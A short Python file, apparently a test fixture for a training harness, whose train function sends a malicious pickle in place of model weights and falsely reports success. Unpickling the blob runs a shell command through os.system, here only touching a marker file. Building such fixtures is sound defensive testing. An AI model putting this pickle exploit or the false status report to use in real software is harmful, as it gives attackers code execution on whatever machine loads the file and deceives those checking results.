"""Sends a pickle in the place of weights, which runs a command wherever it is opened."""

import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/left-by-an-attack",)


def train(model, train_loader, tune_loader, spec, report):
    frames = report._stage.frames
    frames.bulk(b"W", pickle.dumps(Bomb()))
    frames.result(status="ok")
    os._exit(0)
